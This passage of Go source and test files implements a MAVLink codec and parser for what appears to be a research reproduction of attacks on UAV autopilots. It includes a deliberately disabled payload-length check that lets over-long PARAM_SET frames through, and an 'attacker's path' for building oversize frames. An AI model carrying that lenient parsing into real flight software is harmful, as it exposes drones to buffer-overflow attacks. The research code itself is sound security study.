// UnmarshalMissionAck decodes a MISSION_ACK payload.
func UnmarshalMissionAck(p []byte) (*MissionAck, error) {
	if err := checkLen("mission_ack", p, 3); err != nil {
		return nil, err
	}
	return &MissionAck{TargetSystem: p[0], TargetComponent: p[1], Type: p[2]}, nil
}

// VFRHud is VFR_HUD (id 74): the pilot's heads-up metrics.
type VFRHud struct {
	Airspeed, Groundspeed float32
	Alt, Climb            float32
	Heading               int16
	Throttle              uint16
}

// Marshal encodes the VFR_HUD payload.
func (m *VFRHud) Marshal() []byte {
	c := &le{b: make([]byte, 20)}
	c.f32(m.Airspeed)
	c.f32(m.Groundspeed)
	c.f32(m.Alt)
	c.f32(m.Climb)
	c.i16(m.Heading)
	c.u16(m.Throttle)
	return c.b
}

// UnmarshalVFRHud decodes a VFR_HUD payload.
func UnmarshalVFRHud(p []byte) (*VFRHud, error) {
	if err := checkLen("vfr_hud", p, 20); err != nil {
		return nil, err
	}
	c := &le{b: p}
	return &VFRHud{
		Airspeed: c.gf32(), Groundspeed: c.gf32(),
		Alt: c.gf32(), Climb: c.gf32(),
		Heading: c.gi16(), Throttle: c.gu16(),
	}, nil
}

// CommandLong is COMMAND_LONG (id 76).
type CommandLong struct {
	Param                         [7]float32
	Command                       uint16
	TargetSystem, TargetComponent byte
	Confirmation                  byte
}

// Marshal encodes the COMMAND_LONG payload.
func (m *CommandLong) Marshal() []byte {
	c := &le{b: make([]byte, 33)}
	for _, v := range m.Param {
		c.f32(v)
	}
	c.u16(m.Command)
	c.u8(m.TargetSystem)
	c.u8(m.TargetComponent)
	c.u8(m.Confirmation)
	return c.b
}

// UnmarshalCommandLong decodes a COMMAND_LONG payload.
func UnmarshalCommandLong(p []byte) (*CommandLong, error) {
	if err := checkLen("command_long", p, 33); err != nil {
		return nil, err
	}
	c := &le{b: p}
	m := &CommandLong{}
	for i := range m.Param {
		m.Param[i] = c.gf32()
	}
	m.Command = c.gu16()
	m.TargetSystem = c.gu8()
	m.TargetComponent = c.gu8()
	m.Confirmation = c.gu8()
	return m, nil
}

// CommandAck is COMMAND_ACK (id 77).
type CommandAck struct {
	Command uint16
	Result  byte
}

// Marshal encodes the COMMAND_ACK payload.
func (m *CommandAck) Marshal() []byte {
	c := &le{b: make([]byte, 3)}
	c.u16(m.Command)
	c.u8(m.Result)
	return c.b
}

// UnmarshalCommandAck decodes a COMMAND_ACK payload.
func UnmarshalCommandAck(p []byte) (*CommandAck, error) {
	if err := checkLen("command_ack", p, 3); err != nil {
		return nil, err
	}
	c := &le{b: p}
	return &CommandAck{Command: c.gu16(), Result: c.gu8()}, nil
}

// ParamValue is PARAM_VALUE (id 22): the autopilot's reply to parameter
// reads and writes.
type ParamValue struct {
	ParamValue float32
	ParamCount uint16
	ParamIndex uint16
	ParamID    string // up to 16 bytes
	ParamType  byte
}

// Marshal encodes the PARAM_VALUE payload.
func (m *ParamValue) Marshal() []byte {
	c := &le{b: make([]byte, 25)}
	c.f32(m.ParamValue)
	c.u16(m.ParamCount)
	c.u16(m.ParamIndex)
	copy(c.b[8:24], m.ParamID)
	c.b[24] = m.ParamType
	return c.b
}

// UnmarshalParamValue decodes a PARAM_VALUE payload.
func UnmarshalParamValue(p []byte) (*ParamValue, error) {
	if err := checkLen("param_value", p, 25); err != nil {
		return nil, err
	}
	c := &le{b: p}
	m := &ParamValue{ParamValue: c.gf32(), ParamCount: c.gu16(), ParamIndex: c.gu16()}
	id := p[8:24]
	n := 0
	for n < len(id) && id[n] != 0 {
		n++
	}
	m.ParamID = string(id[:n])
	m.ParamType = p[24]
	return m, nil
}

// ParamRequestRead is PARAM_REQUEST_READ (id 20).
type ParamRequestRead struct {
	ParamIndex                    int16
	TargetSystem, TargetComponent byte
	ParamID                       string // up to 16 bytes
}

// Marshal encodes the PARAM_REQUEST_READ payload.
func (m *ParamRequestRead) Marshal() []byte {
	c := &le{b: make([]byte, 20)}
	c.i16(m.ParamIndex)
	c.u8(m.TargetSystem)
	c.u8(m.TargetComponent)
	copy(c.b[4:20], m.ParamID)
	return c.b
}

// UnmarshalParamRequestRead decodes a PARAM_REQUEST_READ payload.
func UnmarshalParamRequestRead(p []byte) (*ParamRequestRead, error) {
	if err := checkLen("param_request_read", p, 20); err != nil {
		return nil, err
	}
	c := &le{b: p}
	m := &ParamRequestRead{ParamIndex: c.gi16(), TargetSystem: c.gu8(), TargetComponent: c.gu8()}
	id := p[4:20]
	n := 0
	for n < len(id) && id[n] != 0 {
		n++
	}
	m.ParamID = string(id[:n])
	return m, nil
}

// RawIMU is RAW_IMU (id 27): unscaled 9-DOF sensor values — the
// gyroscope stream the paper's attack V1 corrupts.
type RawIMU struct {
	TimeUsec            uint64
	Xacc, Yacc, Zacc    int16
	Xgyro, Ygyro, Zgyro int16
	Xmag, Ymag, Zmag    int16
}

// Marshal encodes the RAW_IMU payload.
func (m *RawIMU) Marshal() []byte {
	c := &le{b: make([]byte, 26)}
	c.u32(uint32(m.TimeUsec))
	c.u32(uint32(m.TimeUsec >> 32))
	for _, v := range []int16{m.Xacc, m.Yacc, m.Zacc, m.Xgyro, m.Ygyro, m.Zgyro, m.Xmag, m.Ymag, m.Zmag} {
		c.i16(v)
	}
	return c.b
}

// UnmarshalRawIMU decodes a RAW_IMU payload.
func UnmarshalRawIMU(p []byte) (*RawIMU, error) {
	if err := checkLen("raw_imu", p, 26); err != nil {
		return nil, err
	}
	c := &le{b: p}
	lo := uint64(c.gu32())
	hi := uint64(c.gu32())
	return &RawIMU{
		TimeUsec: hi<<32 | lo,
		Xacc:     c.gi16(), Yacc: c.gi16(), Zacc: c.gi16(),
		Xgyro: c.gi16(), Ygyro: c.gi16(), Zgyro: c.gi16(),
		Xmag: c.gi16(), Ymag: c.gi16(), Zmag: c.gi16(),
	}, nil
}
