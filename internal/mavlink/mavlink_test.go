package mavlink_test

import (
	"bytes"
	"errors"
	"math/rand"
	"testing"
	"testing/quick"

	"mavr/internal/mavlink"
)

func TestCRCKnownVector(t *testing.T) {
	// MAVLink's checksum is CRC-16/MCRF4XX (poly 0x1021 reflected, init
	// 0xFFFF, no final xor); its standard check value over "123456789"
	// is 0x6F91.
	if got := mavlink.CRC([]byte("123456789")); got != 0x6F91 {
		t.Errorf("CRC = 0x%04X, want 0x6F91", got)
	}
}

func TestFrameRoundTrip(t *testing.T) {
	hb := &mavlink.Heartbeat{Type: 1, Autopilot: 3, SystemStatus: mavlink.StateActive, MavlinkVersion: 3}
	f := &mavlink.Frame{Seq: 7, SysID: 1, CompID: 1, MsgID: mavlink.MsgIDHeartbeat, Payload: hb.Marshal()}
	wire, err := f.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	if wire[0] != mavlink.Magic {
		t.Error("frame does not start with magic")
	}
	if len(wire) != 6+9+2 {
		t.Errorf("wire length = %d, want 17 (paper: minimum packet length)", len(wire))
	}
	got, n, err := mavlink.Unmarshal(wire)
	if err != nil {
		t.Fatal(err)
	}
	if n != len(wire) {
		t.Errorf("consumed %d, want %d", n, len(wire))
	}
	hb2, err := mavlink.UnmarshalHeartbeat(got.Payload)
	if err != nil {
		t.Fatal(err)
	}
	if *hb2 != *hb {
		t.Errorf("heartbeat mismatch: %+v vs %+v", hb2, hb)
	}
}

func TestUnmarshalRejectsCorruptChecksum(t *testing.T) {
	f := &mavlink.Frame{MsgID: mavlink.MsgIDHeartbeat, Payload: (&mavlink.Heartbeat{}).Marshal()}
	wire, err := f.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	wire[8] ^= 0xFF
	if _, _, err := mavlink.Unmarshal(wire); !errors.Is(err, mavlink.ErrBadChecksum) {
		t.Errorf("want ErrBadChecksum, got %v", err)
	}
}

func TestUnmarshalRejectsBadMagic(t *testing.T) {
	f := &mavlink.Frame{MsgID: mavlink.MsgIDHeartbeat, Payload: (&mavlink.Heartbeat{}).Marshal()}
	wire, _ := f.Marshal()
	wire[0] = 0x55
	if _, _, err := mavlink.Unmarshal(wire); !errors.Is(err, mavlink.ErrBadMagic) {
		t.Errorf("want ErrBadMagic, got %v", err)
	}
}

func TestUnmarshalRejectsWrongLengthForSchema(t *testing.T) {
	// A heartbeat with 12 payload bytes: checksum fine, schema length not.
	f := &mavlink.Frame{MsgID: mavlink.MsgIDHeartbeat, Payload: make([]byte, 12)}
	wire, err := f.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := mavlink.Unmarshal(wire); !errors.Is(err, mavlink.ErrBadLength) {
		t.Errorf("want ErrBadLength, got %v", err)
	}
}

func TestMarshalRefusesOversizePayload(t *testing.T) {
	f := &mavlink.Frame{MsgID: mavlink.MsgIDParamSet, Payload: make([]byte, 300)}
	if _, err := f.Marshal(); !errors.Is(err, mavlink.ErrTooLong) {
		t.Errorf("want ErrTooLong, got %v", err)
	}
	// The attacker's path must still work.
	wire := f.MarshalOversize()
	if len(wire) != 6+300+2 {
		t.Errorf("oversize wire = %d bytes, want 308", len(wire))
	}
}

func TestParserReassemblesStream(t *testing.T) {
	var wire []byte
	for i := 0; i < 5; i++ {
		f := &mavlink.Frame{
			Seq:     byte(i),
			MsgID:   mavlink.MsgIDHeartbeat,
			Payload: (&mavlink.Heartbeat{CustomMode: uint32(i)}).Marshal(),
		}
		w, err := f.Marshal()
		if err != nil {
			t.Fatal(err)
		}
		wire = append(wire, w...)
	}
	// Garbage between frames must be skipped.
	wire = append([]byte{1, 2, 3}, wire...)
	var p mavlink.Parser
	p.StrictLength = true
	frames := p.FeedBytes(wire)
	if len(frames) != 5 {
		t.Fatalf("parsed %d frames, want 5", len(frames))
	}
	for i, f := range frames {
		if f.Seq != byte(i) {
			t.Errorf("frame %d has seq %d", i, f.Seq)
		}
	}
	if p.Stats().Resyncs != 3 {
		t.Errorf("resyncs = %d, want 3", p.Stats().Resyncs)
	}
}

// The injected vulnerability: with the length check disabled, an
// over-long PARAM_SET passes the parser; with it enabled, it is dropped.
func TestVulnerableVsStrictLengthCheck(t *testing.T) {
	attack := &mavlink.Frame{MsgID: mavlink.MsgIDParamSet, Payload: make([]byte, 96)}
	wire, err := attack.Marshal()
	if err != nil {
		t.Fatal(err)
	}

	var strict mavlink.Parser
	strict.StrictLength = true
	if got := strict.FeedBytes(wire); len(got) != 0 {
		t.Error("strict parser accepted over-long PARAM_SET")
	}
	if strict.Stats().LengthDrops != 1 {
		t.Errorf("length drops = %d, want 1", strict.Stats().LengthDrops)
	}

	var vuln mavlink.Parser // StrictLength false: the paper's disabled check
	got := vuln.FeedBytes(wire)
	if len(got) != 1 {
		t.Fatal("vulnerable parser did not accept over-long PARAM_SET")
	}
	if len(got[0].Payload) != 96 {
		t.Errorf("payload length = %d, want 96", len(got[0].Payload))
	}
}

func TestParserCRCErrorCounting(t *testing.T) {
	f := &mavlink.Frame{MsgID: mavlink.MsgIDHeartbeat, Payload: (&mavlink.Heartbeat{}).Marshal()}
	wire, _ := f.Marshal()
	wire[10] ^= 0x01
	var p mavlink.Parser
	if got := p.FeedBytes(wire); len(got) != 0 {
		t.Error("parser accepted corrupt frame")
	}
	if p.Stats().CRCErrors != 1 {
		t.Errorf("crc errors = %d, want 1", p.Stats().CRCErrors)
	}
}

func TestAttitudeRoundTrip(t *testing.T) {
	a := &mavlink.Attitude{TimeBootMs: 1234, Roll: 0.1, Pitch: -0.2, Yaw: 3.1, RollSpeed: 0.01, PitchSpeed: -0.02, YawSpeed: 0.5}
	got, err := mavlink.UnmarshalAttitude(a.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if *got != *a {
		t.Errorf("attitude mismatch: %+v vs %+v", got, a)
	}
}

func TestParamSetRoundTrip(t *testing.T) {
	ps := &mavlink.ParamSet{ParamValue: 42.5, TargetSystem: 1, TargetComponent: 1, ParamID: "RATE_RLL_P", ParamType: 9}
	got, err := mavlink.UnmarshalParamSet(ps.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if *got != *ps {
		t.Errorf("param_set mismatch: %+v vs %+v", got, ps)
	}
}

func TestStatusTextRoundTrip(t *testing.T) {
	st := &mavlink.StatusText{Severity: 2, Text: "prearm: gyros inconsistent"}
	got, err := mavlink.UnmarshalStatusText(st.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if *got != *st {
		t.Errorf("statustext mismatch: %+v vs %+v", got, st)
	}
}

func TestPayloadUnmarshalRejectsShort(t *testing.T) {
	if _, err := mavlink.UnmarshalHeartbeat(make([]byte, 3)); err == nil {
		t.Error("heartbeat accepted short payload")
	}
	if _, err := mavlink.UnmarshalAttitude(make([]byte, 27)); err == nil {
		t.Error("attitude accepted short payload")
	}
	if _, err := mavlink.UnmarshalParamSet(make([]byte, 10)); err == nil {
		t.Error("param_set accepted short payload")
	}
	if _, err := mavlink.UnmarshalStatusText(make([]byte, 50)); err == nil {
		t.Error("statustext accepted short payload")
	}
}

// Property: any frame marshalled with a known message id parses back
// byte-identical through the streaming parser (lenient mode).
func TestFrameRoundTripProperty(t *testing.T) {
	ids := []byte{mavlink.MsgIDHeartbeat, mavlink.MsgIDAttitude, mavlink.MsgIDParamSet, mavlink.MsgIDStatusText}
	f := func(seq, sys, comp byte, idIdx uint8, payload []byte) bool {
		if len(payload) > mavlink.MaxPayload {
			payload = payload[:mavlink.MaxPayload]
		}
		fr := &mavlink.Frame{
			Seq: seq, SysID: sys, CompID: comp,
			MsgID:   ids[int(idIdx)%len(ids)],
			Payload: payload,
		}
		wire, err := fr.Marshal()
		if err != nil {
			return false
		}
		var p mavlink.Parser
		frames := p.FeedBytes(wire)
		if len(frames) != 1 {
			return false
		}
		got := frames[0]
		return got.Seq == seq && got.SysID == sys && got.CompID == comp &&
			got.MsgID == fr.MsgID && bytes.Equal(got.Payload, payload)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300, Rand: rand.New(rand.NewSource(3))}); err != nil {
		t.Error(err)
	}
}

// Property: flipping any single byte of a marshalled frame never yields
// a different accepted frame (either rejected, or resynced away).
func TestSingleByteCorruptionDetected(t *testing.T) {
	hb := &mavlink.Heartbeat{Type: 2, Autopilot: 3, SystemStatus: 4}
	fr := &mavlink.Frame{Seq: 9, SysID: 1, CompID: 1, MsgID: mavlink.MsgIDHeartbeat, Payload: hb.Marshal()}
	wire, err := fr.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	for i := 1; i < len(wire); i++ { // byte 0 (magic) only causes resync
		mut := append([]byte(nil), wire...)
		mut[i] ^= 0xA5
		var p mavlink.Parser
		p.StrictLength = true
		for _, got := range p.FeedBytes(mut) {
			if got != nil {
				t.Errorf("corruption at byte %d accepted", i)
			}
		}
	}
}

func TestHeaderDescriptionMentionsAllFields(t *testing.T) {
	d := mavlink.HeaderDescription()
	for _, want := range []string{"magic", "Length", "sequence", "Checksum", "255"} {
		if !bytes.Contains([]byte(d), []byte(want)) {
			t.Errorf("header description missing %q", want)
		}
	}
}
