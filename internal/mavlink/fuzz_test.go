package mavlink

import (
	"bytes"
	"testing"
)

// maxPending is the most bytes the parser can be holding mid-frame:
// a 5-byte header plus the largest body (255-byte payload + 2-byte
// checksum, from a length byte of 255).
const maxPending = 5 + MaxPayload + 2

// FuzzParser feeds arbitrary byte streams to the incremental frame
// parser. Invariants: no panics, the internal buffer stays bounded,
// and the parser always resynchronizes — after at most maxPending
// bytes of padding, a valid frame on the wire is decoded.
func FuzzParser(f *testing.F) {
	hb := &Heartbeat{Type: 1, Autopilot: 3, SystemStatus: StateActive, MavlinkVersion: 3}
	valid, err := (&Frame{MsgID: MsgIDHeartbeat, SysID: 1, CompID: 1, Payload: hb.Marshal()}).Marshal()
	if err != nil {
		f.Fatal(err)
	}

	f.Add([]byte{})
	f.Add(valid)
	f.Add(valid[:len(valid)-3])                        // truncated frame
	f.Add(append([]byte{0x00, Magic, 0xFF}, valid...)) // garbage + magic tease
	f.Add(bytes.Repeat([]byte{Magic}, 300))            // magic storm
	f.Add(append(append([]byte(nil), valid...), valid...))

	f.Fuzz(func(t *testing.T, data []byte) {
		p := &Parser{StrictLength: true}
		for _, b := range data {
			fr := p.Feed(b)
			if fr != nil && int(fr.Len) != len(fr.Payload) {
				t.Fatalf("frame with Len=%d but %d payload bytes", fr.Len, len(fr.Payload))
			}
			if len(p.buf) > maxPending {
				t.Fatalf("parser buffer grew to %d bytes", len(p.buf))
			}
		}

		// Resync: zero padding completes (and fails) any pending frame —
		// zeros never start a new one — after which a valid frame on the
		// wire must decode.
		for i := 0; i < maxPending; i++ {
			p.Feed(0)
		}
		before := p.Stats().Frames
		var got *Frame
		for _, b := range valid {
			if fr := p.Feed(b); fr != nil {
				got = fr
			}
		}
		if got == nil || p.Stats().Frames != before+1 {
			t.Fatalf("parser did not resynchronize after %d bytes of garbage", len(data))
		}
		if got.MsgID != MsgIDHeartbeat {
			t.Fatalf("resynced to msgid %d", got.MsgID)
		}
	})
}
