package mavlink_test

import (
	"reflect"
	"testing"

	"mavr/internal/mavlink"
)

func TestPackDecodeAllTypedMessages(t *testing.T) {
	msgs := []mavlink.Message{
		&mavlink.Heartbeat{Type: 1, Autopilot: 3, SystemStatus: 4, MavlinkVersion: 3},
		&mavlink.SysStatus{Load: 960, VoltageBattery: 11100, BatteryRemaining: 80},
		&mavlink.ParamRequestRead{ParamIndex: -1, ParamID: "RATE_RLL_P"},
		&mavlink.ParamValue{ParamValue: 4.5, ParamCount: 10, ParamIndex: 2, ParamID: "X", ParamType: 9},
		&mavlink.ParamSet{ParamValue: 1.5, ParamID: "Y", ParamType: 9},
		&mavlink.GPSRawInt{TimeUsec: 99, Lat: 1, Lon: 2, Alt: 3, FixType: 3},
		&mavlink.RawIMU{TimeUsec: 5, Xgyro: -1, Ygyro: 2, Zgyro: -3},
		&mavlink.Attitude{TimeBootMs: 1, Roll: 0.1, Pitch: 0.2, Yaw: 0.3},
		&mavlink.GlobalPositionInt{Lat: 404338600, Lon: -868922500, Hdg: 27000},
		&mavlink.RCChannelsRaw{Chan: [8]uint16{1500, 1500, 1000, 1500, 0, 0, 0, 0}, RSSI: 200},
		&mavlink.ServoOutputRaw{Servo: [8]uint16{1500, 1480, 0, 0, 0, 0, 0, 0}},
		&mavlink.MissionItem{Seq: 1, Command: 16, X: 1, Y: 2, Z: 3, Autocontinue: 1},
		&mavlink.MissionRequest{Seq: 1, TargetSystem: 1},
		&mavlink.MissionCount{Count: 4, TargetSystem: 1},
		&mavlink.MissionAck{Type: 0},
		&mavlink.VFRHud{Airspeed: 20, Heading: 90, Throttle: 50},
		&mavlink.CommandLong{Command: 22, TargetSystem: 1},
		&mavlink.CommandAck{Command: 22, Result: 0},
		&mavlink.StatusText{Severity: 6, Text: "takeoff complete"},
	}
	var p mavlink.Parser
	p.StrictLength = true
	for i, msg := range msgs {
		fr, err := mavlink.Pack(msg, byte(i), 1, 1)
		if err != nil {
			t.Fatalf("pack %T: %v", msg, err)
		}
		wire, err := fr.Marshal()
		if err != nil {
			t.Fatalf("marshal %T: %v", msg, err)
		}
		frames := p.FeedBytes(wire)
		if len(frames) != 1 {
			t.Fatalf("%T rejected by strict parser", msg)
		}
		got, err := mavlink.Decode(frames[0])
		if err != nil {
			t.Fatalf("decode %T: %v", msg, err)
		}
		if !reflect.DeepEqual(got, msg) {
			t.Errorf("%T round trip:\ngot  %+v\nwant %+v", msg, got, msg)
		}
	}
}

func TestDecodeUnknownMessage(t *testing.T) {
	if _, err := mavlink.Decode(&mavlink.Frame{MsgID: 200}); err == nil {
		t.Error("unknown id decoded")
	}
}

func TestPackRejectsSchemaViolation(t *testing.T) {
	// A hand-rolled message that marshals to the wrong length.
	if _, err := mavlink.Pack(badMsg{}, 0, 1, 1); err == nil {
		t.Error("schema violation accepted")
	}
}

type badMsg struct{}

func (badMsg) ID() byte        { return mavlink.MsgIDHeartbeat }
func (badMsg) Marshal() []byte { return make([]byte, 3) }
