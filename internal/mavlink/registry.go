package mavlink

import "fmt"

// Message is a typed MAVLink payload.
type Message interface {
	// ID returns the MAVLink message id.
	ID() byte
	// Marshal encodes the payload to its wire format.
	Marshal() []byte
}

// ID implementations binding each typed message to its id.
func (h *Heartbeat) ID() byte         { return MsgIDHeartbeat }
func (m *SysStatus) ID() byte         { return MsgIDSysStatus }
func (m *ParamRequestRead) ID() byte  { return MsgIDParamRequestRead }
func (m *ParamValue) ID() byte        { return MsgIDParamValue }
func (ps *ParamSet) ID() byte         { return MsgIDParamSet }
func (m *GPSRawInt) ID() byte         { return MsgIDGPSRawInt }
func (m *RawIMU) ID() byte            { return MsgIDRawIMU }
func (a *Attitude) ID() byte          { return MsgIDAttitude }
func (m *GlobalPositionInt) ID() byte { return MsgIDGlobalPositionInt }
func (m *RCChannelsRaw) ID() byte     { return MsgIDRCChannelsRaw }
func (m *ServoOutputRaw) ID() byte    { return MsgIDServoOutputRaw }
func (m *MissionItem) ID() byte       { return MsgIDMissionItem }
func (m *MissionRequest) ID() byte    { return MsgIDMissionRequest }
func (m *MissionCount) ID() byte      { return MsgIDMissionCount }
func (m *MissionAck) ID() byte        { return MsgIDMissionAck }
func (m *VFRHud) ID() byte            { return MsgIDVFRHud }
func (m *CommandLong) ID() byte       { return MsgIDCommandLong }
func (m *CommandAck) ID() byte        { return MsgIDCommandAck }
func (st *StatusText) ID() byte       { return MsgIDStatusText }

// Pack wraps a typed message into a ready-to-send frame.
func Pack(msg Message, seq, sysID, compID byte) (*Frame, error) {
	f := &Frame{
		Seq:     seq,
		SysID:   sysID,
		CompID:  compID,
		MsgID:   msg.ID(),
		Payload: msg.Marshal(),
	}
	if want, ok := ExpectedLen(f.MsgID); ok && len(f.Payload) != want {
		return nil, fmt.Errorf("mavlink: message %d marshals to %d bytes, schema says %d",
			f.MsgID, len(f.Payload), want)
	}
	return f, nil
}

// Decode converts a validated frame into its typed message.
func Decode(f *Frame) (Message, error) {
	switch f.MsgID {
	case MsgIDHeartbeat:
		return UnmarshalHeartbeat(f.Payload)
	case MsgIDSysStatus:
		return UnmarshalSysStatus(f.Payload)
	case MsgIDParamRequestRead:
		return UnmarshalParamRequestRead(f.Payload)
	case MsgIDParamValue:
		return UnmarshalParamValue(f.Payload)
	case MsgIDParamSet:
		return UnmarshalParamSet(f.Payload)
	case MsgIDGPSRawInt:
		return UnmarshalGPSRawInt(f.Payload)
	case MsgIDRawIMU:
		return UnmarshalRawIMU(f.Payload)
	case MsgIDAttitude:
		return UnmarshalAttitude(f.Payload)
	case MsgIDGlobalPositionInt:
		return UnmarshalGlobalPositionInt(f.Payload)
	case MsgIDRCChannelsRaw:
		return UnmarshalRCChannelsRaw(f.Payload)
	case MsgIDServoOutputRaw:
		return UnmarshalServoOutputRaw(f.Payload)
	case MsgIDMissionItem:
		return UnmarshalMissionItem(f.Payload)
	case MsgIDMissionRequest:
		return UnmarshalMissionRequest(f.Payload)
	case MsgIDMissionCount:
		return UnmarshalMissionCount(f.Payload)
	case MsgIDMissionAck:
		return UnmarshalMissionAck(f.Payload)
	case MsgIDVFRHud:
		return UnmarshalVFRHud(f.Payload)
	case MsgIDCommandLong:
		return UnmarshalCommandLong(f.Payload)
	case MsgIDCommandAck:
		return UnmarshalCommandAck(f.Payload)
	case MsgIDStatusText:
		return UnmarshalStatusText(f.Payload)
	}
	return nil, fmt.Errorf("%w: id %d", ErrUnknownMsg, f.MsgID)
}
