package mavlink

import (
	"encoding/binary"
	"fmt"
	"math"
)

// Heartbeat is the MAVLink HEARTBEAT message (id 0), broadcast by the
// autopilot about once per second. The ground station's liveness
// monitoring — what a stealthy attack must not disturb — is built on it.
type Heartbeat struct {
	CustomMode     uint32
	Type           byte
	Autopilot      byte
	BaseMode       byte
	SystemStatus   byte
	MavlinkVersion byte
}

// MAV_STATE values used by the simulation.
const (
	StateActive   = 4
	StateCritical = 5
)

// Marshal encodes the heartbeat payload.
func (h *Heartbeat) Marshal() []byte {
	out := make([]byte, 9)
	binary.LittleEndian.PutUint32(out, h.CustomMode)
	out[4] = h.Type
	out[5] = h.Autopilot
	out[6] = h.BaseMode
	out[7] = h.SystemStatus
	out[8] = h.MavlinkVersion
	return out
}

// UnmarshalHeartbeat decodes a HEARTBEAT payload.
func UnmarshalHeartbeat(p []byte) (*Heartbeat, error) {
	if len(p) < 9 {
		return nil, fmt.Errorf("mavlink: heartbeat payload %d bytes, want 9", len(p))
	}
	return &Heartbeat{
		CustomMode:     binary.LittleEndian.Uint32(p),
		Type:           p[4],
		Autopilot:      p[5],
		BaseMode:       p[6],
		SystemStatus:   p[7],
		MavlinkVersion: p[8],
	}, nil
}

// Attitude is the ATTITUDE message (id 30): the UAV's roll/pitch/yaw
// state computed from the gyroscope — the sensor the paper's attack V1
// corrupts.
type Attitude struct {
	TimeBootMs                      uint32
	Roll, Pitch, Yaw                float32
	RollSpeed, PitchSpeed, YawSpeed float32
}

// Marshal encodes the attitude payload.
func (a *Attitude) Marshal() []byte {
	out := make([]byte, 28)
	binary.LittleEndian.PutUint32(out, a.TimeBootMs)
	for i, f := range []float32{a.Roll, a.Pitch, a.Yaw, a.RollSpeed, a.PitchSpeed, a.YawSpeed} {
		binary.LittleEndian.PutUint32(out[4+i*4:], math.Float32bits(f))
	}
	return out
}

// UnmarshalAttitude decodes an ATTITUDE payload.
func UnmarshalAttitude(p []byte) (*Attitude, error) {
	if len(p) < 28 {
		return nil, fmt.Errorf("mavlink: attitude payload %d bytes, want 28", len(p))
	}
	f := func(off int) float32 {
		return math.Float32frombits(binary.LittleEndian.Uint32(p[off:]))
	}
	return &Attitude{
		TimeBootMs: binary.LittleEndian.Uint32(p),
		Roll:       f(4), Pitch: f(8), Yaw: f(12),
		RollSpeed: f(16), PitchSpeed: f(20), YawSpeed: f(24),
	}, nil
}

// ParamSet is the PARAM_SET message (id 23): the ground station writes
// one named autopilot parameter. Its 16-byte param_id field is the
// fixed-size buffer the paper's injected vulnerability overflows.
type ParamSet struct {
	ParamValue      float32
	TargetSystem    byte
	TargetComponent byte
	ParamID         string // up to 16 bytes on the wire
	ParamType       byte
}

// Marshal encodes the PARAM_SET payload.
func (ps *ParamSet) Marshal() []byte {
	out := make([]byte, 23)
	binary.LittleEndian.PutUint32(out, math.Float32bits(ps.ParamValue))
	out[4] = ps.TargetSystem
	out[5] = ps.TargetComponent
	copy(out[6:22], ps.ParamID)
	out[22] = ps.ParamType
	return out
}

// UnmarshalParamSet decodes a PARAM_SET payload.
func UnmarshalParamSet(p []byte) (*ParamSet, error) {
	if len(p) < 23 {
		return nil, fmt.Errorf("mavlink: param_set payload %d bytes, want 23", len(p))
	}
	id := p[6:22]
	n := 0
	for n < len(id) && id[n] != 0 {
		n++
	}
	return &ParamSet{
		ParamValue:      math.Float32frombits(binary.LittleEndian.Uint32(p)),
		TargetSystem:    p[4],
		TargetComponent: p[5],
		ParamID:         string(id[:n]),
		ParamType:       p[22],
	}, nil
}

// StatusText is the STATUSTEXT message (id 253).
type StatusText struct {
	Severity byte
	Text     string // up to 50 bytes
}

// Marshal encodes the STATUSTEXT payload.
func (st *StatusText) Marshal() []byte {
	out := make([]byte, 51)
	out[0] = st.Severity
	copy(out[1:], st.Text)
	return out
}

// UnmarshalStatusText decodes a STATUSTEXT payload.
func UnmarshalStatusText(p []byte) (*StatusText, error) {
	if len(p) < 51 {
		return nil, fmt.Errorf("mavlink: statustext payload %d bytes, want 51", len(p))
	}
	text := p[1:51]
	n := 0
	for n < len(text) && text[n] != 0 {
		n++
	}
	return &StatusText{Severity: p[0], Text: string(text[:n])}, nil
}
