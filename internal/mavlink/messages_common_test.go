package mavlink_test

import (
	"reflect"
	"testing"

	"mavr/internal/mavlink"
)

// Every common-set message round-trips through its payload codec and
// through a full frame with the schema length check enabled.
func TestCommonMessagesRoundTrip(t *testing.T) {
	type codec struct {
		id        byte
		marshal   func() []byte
		unmarshal func([]byte) (any, error)
		want      any
	}
	cases := []codec{
		{
			id: mavlink.MsgIDSysStatus,
			want: &mavlink.SysStatus{
				SensorsPresent: 0x3F, SensorsEnabled: 0x2F, SensorsHealth: 0x0F,
				Load: 960, VoltageBattery: 11100, CurrentBattery: 1234,
				DropRateComm: 1, ErrorsComm: 2, ErrorsCount1: 3, ErrorsCount2: 4,
				ErrorsCount3: 5, ErrorsCount4: 6, BatteryRemaining: 87,
			},
			unmarshal: func(p []byte) (any, error) { return mavlink.UnmarshalSysStatus(p) },
		},
		{
			id: mavlink.MsgIDGPSRawInt,
			want: &mavlink.GPSRawInt{
				TimeUsec: 0x1122334455667788, Lat: 404338600, Lon: -868922500,
				Alt: 188000, Eph: 121, Epv: 65535, Vel: 1500, Cog: 9000,
				FixType: 3, SatellitesVisible: 9,
			},
			unmarshal: func(p []byte) (any, error) { return mavlink.UnmarshalGPSRawInt(p) },
		},
		{
			id: mavlink.MsgIDGlobalPositionInt,
			want: &mavlink.GlobalPositionInt{
				TimeBootMs: 120000, Lat: 404338600, Lon: -868922500,
				Alt: 188000, RelativeAlt: 5000, Vx: 120, Vy: -30, Vz: 4, Hdg: 27000,
			},
			unmarshal: func(p []byte) (any, error) { return mavlink.UnmarshalGlobalPositionInt(p) },
		},
		{
			id: mavlink.MsgIDRCChannelsRaw,
			want: &mavlink.RCChannelsRaw{
				TimeBootMs: 9000, Chan: [8]uint16{1500, 1500, 1000, 1500, 1100, 1900, 0, 0},
				Port: 0, RSSI: 210,
			},
			unmarshal: func(p []byte) (any, error) { return mavlink.UnmarshalRCChannelsRaw(p) },
		},
		{
			id: mavlink.MsgIDServoOutputRaw,
			want: &mavlink.ServoOutputRaw{
				TimeUsec: 1234567, Servo: [8]uint16{1500, 1480, 1520, 1000, 0, 0, 0, 0}, Port: 0,
			},
			unmarshal: func(p []byte) (any, error) { return mavlink.UnmarshalServoOutputRaw(p) },
		},
		{
			id: mavlink.MsgIDMissionItem,
			want: &mavlink.MissionItem{
